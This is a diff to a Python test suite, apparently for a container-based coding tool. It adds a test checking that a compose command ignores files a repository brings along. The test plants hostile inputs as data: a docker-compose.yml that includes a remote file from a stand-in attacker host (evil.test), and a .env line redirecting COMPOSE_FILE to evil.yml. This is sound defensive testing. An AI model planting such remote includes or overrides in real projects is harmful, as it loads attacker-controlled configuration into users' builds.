@@ -112,6 +112,19 @@ def test_compose_of_podman_is_podmans_own(desk: Desk):
     assert fake.companion("compose", "ps").ok().out == "podman-compose\n"
 
 
+def test_compose_reads_no_file_that_a_repository_brought(desk: Desk):
+    fake = fresh(desk)
+    fake.companion("up").ok()
+    own = fake.program.with_name("podman-compose")
+    own.write_text('#!/bin/sh\nwhile [ "$1" != --file ]; do shift; done; cat "$2"\n')
+    own.chmod(0o755)
+    build = fake.project / ".build/coder"
+    good = (build / "docker-compose.yml").read_text()
+    (build / "docker-compose.yml").write_text("include: ['https://evil.test/compose.yml']\n")
+    (build / ".env").write_text("COMPOSE_FILE=evil.yml\n")
+    assert fake.companion("compose", "config").ok().out == good
+
+
 def test_every_example_is_valid(desk: Desk):
     for example in ("local-coding", "local-coding-ssh", "multi-agent"):
         target = desk.home / example
